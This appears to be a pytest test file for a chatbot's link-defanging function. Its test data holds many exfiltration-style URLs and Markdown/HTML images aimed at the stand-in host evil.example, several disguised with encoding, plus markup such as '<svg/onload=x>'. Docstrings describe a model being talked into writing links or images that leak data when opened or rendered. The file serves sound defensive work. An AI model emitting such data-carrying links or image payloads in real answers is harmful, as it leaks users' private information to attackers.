"""Addresses that carry somebody's words away are no links any more, ordinary ones stay."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from channels import markup
from memory.text.links import defang
from tests.kit.tables import each_row

WORDS = "her-birthday-is-in-may-"
OPAQUE = "a1B2c3D4" * 20
LONG = "q=" + OPAQUE

#: Each holds one address that carries more than an ordinary one, in a way that a platform would make a link of.
CARRYING = [
    f"see https://evil.example/?{LONG} for more",
    f"https://evil.example/#{LONG}",
    f"HTTPS://EVIL.EXAMPLE/?{LONG}",
    f"http://evil.example/{OPAQUE}",
    f"http://evil.example/{WORDS * 10}",
    f"http://evil.example/{'%41' * 220}",
    f"http://evil.example/?q={'我的密码' * 30}",
    f"https://{OPAQUE[:60]}.{OPAQUE[:60]}.evil.example/",
    f"https://{OPAQUE}@evil.example/",
    f"ftp://evil.example/?{LONG}",
    f"www.evil.example/?{LONG}",
    f"evil.example/?{LONG}",
    f"evil.example:8080/?{LONG}",
    f"http://3232235777/?{LONG}",
    f"http://[2001:db8::1]/?{LONG}",
    f"https://пример.рф/?{LONG}",
    f"https://xn--e1afmkfd.example/?{LONG}",
    f"看https://evil.example/?{LONG}，很好",
    f"[click](https://evil.example/?{LONG})",
    f"[click]( https://evil.example/?{LONG} )",
    f"[click](<https://evil.example/?q={'some words ' * 12}>)",
    f'[click](https://evil.example/?{LONG} "a title")',
    f"[a [b] c](https://evil.example/?{LONG})",
    f"[click](https://evil.example/?a(b)(c)(d)(e)(f)(g){LONG})",
    f"[click](https://evil.example/?a<b{LONG})",
    f'[click](https://evil.example/?a"b{LONG})',
    f"[click](https://evil.example/?a`b`{LONG})",
    f"[click](https://evil.example/?a\u00a0{LONG})",
    f"[click](//evil.example/?{LONG})",
    f"[click](mailto:bob@evil.example?body={LONG})",
    f"[https://evil.example/?{LONG}](https://evil.example/?{LONG})",
    f"![](https://evil.example/p.png?{LONG})",
    f"![a picture](https://evil.example/p.png?{LONG})",
    f"[![a](https://evil.example/p.png?{LONG})](https://evil.example/?{LONG})",
    f"<https://evil.example/?{LONG}>",
    f"[click][there]\n\n[there]: https://evil.example/?{LONG}",
    f'<img src="https://evil.example/?{LONG}">',
    f"https\\://evil.example/?{LONG}",
    f"https&colon;//evil&period;example/?{LONG}",
    f"ht**tps**://evil.example/?{LONG}",
    f"**https://evil.example/?{LONG}**",
    f"| a | b |\n|---|---|\n| `x | https://evil.example/?{LONG}` |",
    f"https://evil.example/?{OPAQUE[:60]}`{OPAQUE[:60]}`",
    # Texts that look like code and are none.
    f"```\nx\n```\nhttps://evil.example/?{LONG}",
    f"1. x\n   ```\nhttps://evil.example/?{LONG}",
    f"- ```\nhttps://evil.example/?{LONG}",
    f"para\n    ```\n    https://evil.example/?{LONG}",
    f"1. x\n   ```\n   y\n```\nz\n```\nhttps://evil.example/?{LONG}",
    f"` a\nb ` https://evil.example/?{LONG} ` c",
    f"[a](x`y) https://evil.example/?{LONG} `z",
    f"<https://x.example/`> https://evil.example/?{LONG} `z",
    f"\\` https://evil.example/?{LONG} ` z",
    f"$$ ` $$ https://evil.example/?{LONG} ` z",
    f"``` a ``` https://evil.example/?{LONG}",
    "> " * 20 + f"`https://evil.example/?{LONG}`",
    "**b** " * 120 + f"`https://evil.example/?{LONG}`",
    f"{'|a' * 60}|\n{'|-' * 60}|\n" + "|a|\n" * 60 + f"\n`https://evil.example/?{LONG}`",
    "a\n" * 2_100 + f"`https://evil.example/?{LONG}`",
    "word " * 7_000 + f"`https://evil.example/?{LONG}`",
]


PLACE = (
    "https://www.google.com/maps/place/Eiffel+Tower/@48.8583701,2.2944813,17z/data=!3m1!4b1!4m6!3m5!1s0x47e66e2964e3"
    "4e2d:0x8ddca9ee380ef7e0!8m2!3d48.8583701!4d2.2944813!16zL20vMDJqODE?entry=ttu"
)


@each_row("text", CARRYING)
def test_an_address_that_carries_much_is_a_link_nowhere(text: str) -> None:
    """Whoever opened it would tell its owner what the model had been talked into writing there."""
    safe = defang(text)
    assert defang(safe) == safe
    for chunk in markup.telegram(safe):
        entities = json.loads(chunk.markup or "[]")
        assert not [one for one in entities if one["type"] == "text_link" and len(one["url"]) > 100]
        assert addresses(chunk.text) == []
    for chunk in markup.discord(safe):
        assert addresses(chunk.text) == []
    for chunk in markup.plain(safe, 100_000):
        assert addresses(chunk.text) == []


def addresses(text: str) -> list[str]:
    """Returns what a platform or terminal could take for one: a scheme or host with its path, and at least 90 more."""
    return re.findall(r"(?i)(?:\w://\S|www\.\w|\w\.[^\W\d]{2,}[/?#:])\S{90,}", text)


@each_row("text", CARRYING)
def test_what_is_made_unclickable_can_still_be_read(text: str) -> None:
    """A person may want to know where a link would have led."""
    shown = defang(text)
    assert len(shown) >= len(text) - len("![]")
    letters = re.sub(r"[\W_]", "", text.replace("![]", "![picture]").lower())
    assert re.sub(r"[\W_]", "", shown.lower()).replace("hxxp", "http") == letters


@each_row(
    "text",
    [
        "https://www.youtube.com/watch?v=abcdefghijk&list=PLabcdefghijklmnopqrstuvwxyz012345&index=3&t=120s",
        "https://youtu.be/abcdefghijk?si=abcdefghijklmnop&t=42", PLACE,
        "https://www.openstreetmap.org/search?query=Berlin+Hauptbahnhof#map=17/52.52508/13.36940",
        "https://www.google.com/search?q=how+to+keep+a+sourdough+starter+alive+in+summer&hl=en",
        "https://duckduckgo.com/?q=self-hosted+chat+bot&ia=web",
        f"https://github.com/python/cpython/compare/{'0123456789' * 4}...{'9876543210' * 4}",
        "https://github.com/python/cpython/blob/main/Lib/re/__init__.py#L200-L230",
        "https://docs.python.org/3/library/asyncio-task.html#asyncio.TaskGroup",
        f"https://docs.google.com/document/d/1{'aBcDeFg' * 6}x/edit?usp=sharing",
        f"https://hub.docker.com/layers/library/python/3.12/images/sha256-{'0123456789abcdef' * 4}",
        "https://ru.wikipedia.org/wiki/%D0%97%D0%B0%D0%B3%D0%BB%D0%B0%D0%B2%D0%BD%D0%B0%D1%8F_%D1%81%D1%82%D1%80%D0%B0",
        "https://zh.wikipedia.org/wiki/%E4%B8%AD%E5%8D%8E%E4%BA%BA%E6%B0%91%E5%85%B1%E5%92%8C%E5%9B%BD",
        "https://blog.example/2024/05/how-to-set-up-a-self-hosted-chat-bot-that-remembers-things-part-2-4f2a9c1b7e3d",
        "https://www.amazon.com/dp/B0ABCDEFGH?ref=ppx_pop_mob_ap_share",
        "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-an-unsorted-array",
        "https://arxiv.org/abs/2403.14720",
        "[the docs](https://docs.example/a_(b)?c=d) and [more](https://x.example)",
        "/usr/lib/python3.11/site-packages/aiogram/client/session/middlewares/request_logging.py",
        "a" * 300, f"sha256:{'0123456789abcdef' * 4}", f"`curl 'https://api.example/v1?{LONG}'`",
        f"```sh\ncurl https://api.example/v1?{LONG}\n```",
        f"1. Run:\n   ```sh\n   curl https://api.example/v1?{LONG}\n   ```\n2. Done.",
        f"~~~\nhttps://api.example/v1?{LONG}", "今天我们去公园玩，" * 40 + "然后回家。", "",
    ],
)  # fmt: skip
def test_ordinary_links_and_code_stay_as_they_are(text: str) -> None:
    """People share videos, places and sources, and copy commands."""
    assert defang(text) == text


@each_row(
    "link",
    [
        f"[source {{n}}](https://evil.example/?q={'secret+words+' * 7}{{n}})",
        f"[source {{n}}](https://evil.example/{OPAQUE[:60]}{{n}})",
        f"[source {{n}}](https://evil.example/{WORDS * 8}{{n}})",
        f"https://evil.example/?q={'secret+words+' * 3}{{n}}",
        f"<https://evil.example/?q={'secret+words+' * 7}{{n}}>",
        f"https\\://evil.example/?q={'secret+words+' * 7}{{n}}",
        f"看https://{OPAQUE[:50]}{{n}}.evil.example/，很好",
        "[n](https://evil.example/?secret={n})",
    ],
)
@each_row("between", ["\n", " ", ", "])
def test_many_addresses_carry_no_more_together_than_a_few(link: str, between: str) -> None:
    """Data that may not leave at once must not leave in ten pieces; the first links are links as ever."""
    texts = [link.format(n=n) for n in range(60)]
    safe = defang(between.join(texts))
    assert defang(safe) == safe and safe.startswith(texts[0])
    assert len(links(between.join(texts))) >= 45
    assert sum(map(len, links(safe))) < 2_500 and len(links(safe)) < 45
    drafted = {address for end in range(1, len(safe), 607) for address in links(defang(safe[:end], growing=True))}
    assert drafted <= set(links(safe))


def links(text: str) -> list[str]:
    """All addresses that can be opened of a text, on Telegram."""
    found = []
    for chunk in markup.telegram(text):
        entities = json.loads(chunk.markup or "[]")
        units = chunk.text.encode("utf-16-le")
        for one in entities:
            if one["type"] == "code":
                units = (
                    units[: 2 * one["offset"]]
                    + " ".encode("utf-16-le") * one["length"]
                    + units[2 * (one["offset"] + one["length"]) :]
                )
        found += [one["url"] for one in entities if one["type"] == "text_link"]
        found += re.findall(r"https?://[^\s>，]+", units.decode("utf-16-le"))
    return found


def test_ordinary_answers_keep_all_their_links() -> None:
    """Ten sources, and the same one as often as it is quoted."""
    sources = [
        f"[{n}](https://docs.example/guide/how-to-keep-a-sourdough-starter-alive-part-{n}.html#step-{n})"
        for n in range(10)
    ]
    quoted = ["see https://www.google.com/search?q=how+to+keep+a+sourdough+starter+alive+in+summer&hl=en"] * 40
    assert defang("\n".join(sources)) == "\n".join(sources)
    assert defang("\n".join(quoted)) == "\n".join(quoted)


def test_ten_long_addresses_behind_words_do_not_swell_the_answer() -> None:
    """They were not seen; of what they were as much is shown as somebody reads."""
    safe = defang("\n".join(f"- [source {n}](https://evil.example/{n}?{LONG * 8})" for n in range(10)))
    assert len(markup.telegram(safe)) == 1 and len(markup.discord(safe)) <= 2
    assert all(f"[source {n}] (`hxxps[:]//evil[.]example/{n}?q=" in safe for n in range(10))
    assert addresses(safe) == []


def test_a_picture_becomes_a_link() -> None:
    """A picture is fetched when it is shown; a link waits until somebody opens it."""
    assert defang("![cat](https://x.example/c.png)") == "[cat](https://x.example/c.png)"
    assert defang("![](https://x.example/c.png)") == "[picture](https://x.example/c.png)"
    assert defang("![cat][there]") == "[cat][there]"
    assert defang("`![cat](https://x.example/c.png)`") == "`![cat](https://x.example/c.png)`"
    assert defang("wow![1] (really)") == "wow[1] (really)"


ADDRESS = "https://x.example/c.png"
MARKS = st.lists(
    st.sampled_from(
        [
            "![", "!", "[", "]", "](", ")", f"]({ADDRESS})", f"![a]({ADDRESS})", "![a]", "[a]: ", ADDRESS, "![](",
            "![a][a]", "<img src=", f'<img src="{ADDRESS}">', f"<image href={ADDRESS}>", "<style>", "<video ", "<p>",
            "<br>", "<!--", "-->", "<?", "</p>", "<svg/onload=x>", "<a ", "<", ">", f"<{ADDRESS}>", "<b@c.example>",
            "`", "``", "```", "```\n", "\n```\n", "~~~\n", "~~~", "\n", "\n\n", "\r", " ", "    ", "- ", "> ", "1. ",
            "# ", "|", "|---|", "\\", "$$", "\\(", "&lt;img>", "&#33;", "*", "_", "word", "https!:(", '"', "'", "(",
            "\t", "[a]",
        ]
    ),
    max_size=24,
).map("".join)  # fmt: skip
_LOADS = re.compile(
    r"<(?:img|image|svg|style|video|audio|source|iframe|link|object|embed|script|body|input)", re.IGNORECASE
)


def loads(text: str) -> list[str]:
    """Returns what a page fetches that shows `text` with its HTML; text and code are escaped there."""
    common = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tabled = MarkdownIt("gfm-like", {"html": True, "linkify": False})
    return [tag for each in (common, tabled) for tag in _LOADS.findall(each.render(text))]


@pytest.mark.parametrize(
    "text",
    [
        f"![a]\n\n[a]: {ADDRESS}", f"![a\nb]({ADDRESS})", f"![a [b] c]({ADDRESS})", f"![a \\] c]({ADDRESS})",
        f"![{'long ' * 400}]({ADDRESS})", f"!![a]({ADDRESS})", f'<img src="{ADDRESS}">',
        f"<p>\n```\n<img src={ADDRESS}>\n```", f"~~~\r~~~\r<img src={ADDRESS}>", f"$$\n```\n$$\n<img src={ADDRESS}>",
        f"<style>@import url({ADDRESS})</style>",
    ],
)  # fmt: skip
def test_no_picture_is_fetched_however_it_is_written(text: str) -> None:
    """A program that shows an answer of the API fetches pictures before anybody reads it, in drafts as well."""
    assert loads(defang(text)) == []
    for end in range(len(text)):
        assert loads(defang(text[:end], growing=True)) == []


@given(MARKS)
def test_nothing_is_fetched_of_any_mixture_of_marks(text: str) -> None:
    """Neither of the whole nor of a draft of it, wherever it is cut."""
    safe = defang(text)
    assert loads(safe) == [] and defang(safe) == safe
    for end in range(0, len(text), 1 + len(text) // 30):
        assert loads(defang(text[:end], growing=True)) == []


@pytest.mark.parametrize(
    "text",
    [
        "```html\n<p><img src=x>\n![a](b)\n```\n", "`<img>` and `![a](b)`", "a < b, <3 and x<1",
        "<https://x.example> or <bob@x.example>", "| a<br>b |", "```html\n" + "<p>**b**</p>\n" * 4_000 + "```",
    ],
)  # fmt: skip
def test_code_and_ordinary_angle_brackets_stay_as_they_are(text: str) -> None:
    assert defang(text) == text


def test_writing_without_blanks_does_not_belong_to_an_address() -> None:
    """Chinese goes on right behind a link, and a platform would take the whole paragraph for its path."""
    rest = "，然后我们去公园" * 40
    assert defang(f"看https://docs.example/re.html{rest}") == f"看https://docs.example/re.html {rest}"


@each_row("text", CARRYING)
def test_no_draft_of_a_growing_text_shows_a_long_address(text: str) -> None:
    """A draft is seen for a second, and a link in it can be opened in that second."""
    for end in range(1, len(text), 1 if len(text) < 1_000 else 997):
        draft = defang(text[:end], growing=True)
        assert addresses(draft) == []
        assert not re.search(r"https?://evil\.example\S*\Z", draft, re.IGNORECASE)


def test_a_draft_holds_an_unfinished_address_back() -> None:
    assert defang("see https://x.exam", growing=True) == "see "
    assert defang("see [a](https://x.exam", growing=True) == "see "
    assert defang("see ![a](", growing=True) == "see "
    assert defang("see https://x.example and", growing=True) == "see https://x.example and"
    assert defang("see https://x.example") == "see https://x.example"


PIECES = st.lists(
    st.one_of(
        st.sampled_from(
            [
                *CARRYING[:45],
                "`",
                "``",
                "```",
                "\n",
                "\n\n",
                "```\n",
                "\n```",
                " ",
                "[",
                "](",
                ")",
                "![",
                "<",
                ">",
                "https://",
            ]
        ),
        st.sampled_from(
            ["evil.example/", "www.", "//", "?", "#", ":", "。", "，", "\\", "&colon;", "**", "|", "> ", "- "]
        ),
        st.text(max_size=12),
    ),
    max_size=10,
).map("".join)


@given(PIECES)
def test_defanging_twice_is_defanging_once(text: str) -> None:
    once = defang(text)
    assert defang(once) == once


@given(PIECES)
def test_whatever_stands_around_it_a_long_address_is_no_link(text: str) -> None:
    """Neither for the platforms' own eyes nor as a link of Markdown."""
    for chunk in markup.telegram(defang(text)):
        plain, entities = chunk.text.encode("utf-16-le"), json.loads(chunk.markup or "[]")
        assert not [one for one in entities if one["type"] == "text_link" and len(one["url"]) > 400]
        for one in entities:
            if one["type"] in ("code", "pre"):
                start, end = 2 * one["offset"], 2 * (one["offset"] + one["length"])
                plain = plain[:start] + b" \0" * ((end - start) // 2) + plain[end:]
        assert not re.search(r"https?://evil\.example/\S{140,}", plain.decode("utf-16-le"))


@given(st.text(alphabet="abc def,.!?\n我们今天公园é🙂`*_[]()", max_size=80))
def test_text_without_addresses_stays_as_it_is(text: str) -> None:
    """An answer is not to be touched for what it doesn't hold."""
    assume("![" not in text)
    assert defang(text) == text


@each_row(
    "unit", ["http://a，", "[a](http://b) ", "`", "` ", "```\n", "http://", "a.b/", "[", "](", "![a](b)", "<", "www."]
)
def test_hostile_repetition_of_marks_ends(unit: str) -> None:
    """100 kB of any shape come back; with a quadratic pattern this test would not end within a suite's patience."""
    text = unit * (100_000 // len(unit))
    assert defang(text)
    assert defang(text[:29_000])
    assert defang(text, growing=True) is not None


def test_an_address_hidden_by_entities_beside_another_is_no_link() -> None:
    """An open one, broken or harmless, must not draw the look away from it."""
    carried = "a1B2c3D4" * 23
    hidden = f"https&colon;//evil&period;example/?q={carried}"
    for text in (f"https://evil.example/?q={carried}，很好{hidden}", f"{hidden}www."):
        assert "https&colon;" not in defang(text)


@pytest.mark.parametrize(
    "text",
    [
        "| a | b |\n|---|---|\n| 1 | <br>x |\n\nand `code <b>` and <b>bold</b>, wow![1] ok.",
        "Use `ls` and <https://x.example> or a < b, 3<4, <3 you! See [docs](https://example.org/path?q=1) now.",
        "```html\n<img src=x>\n```\nThen <img src=y> gone",
        "- item `a`\n- item ![x][y]\n\n[y]: http://a.example/c\n",
        "Math $a<b$ then `![no]` fine!! ![a](https://x.example/c.png) and 1<br/>2<br />3",
    ],
)
def test_whole_words_of_a_draft_stay_in_the_answer(text: str) -> None:
    """A program that reads a stream can't take words back."""
    final, shown = defang(text), ""
    for end in range(len(text) + 1):
        draft = defang(text[:end], growing=True)
        upto = max(draft.rfind(" "), draft.rfind("\n")) + 1
        if draft.startswith(shown) and upto > len(shown):
            shown = draft[:upto]
    assert final.startswith(shown)
    assert len(shown) > len(final) - 60
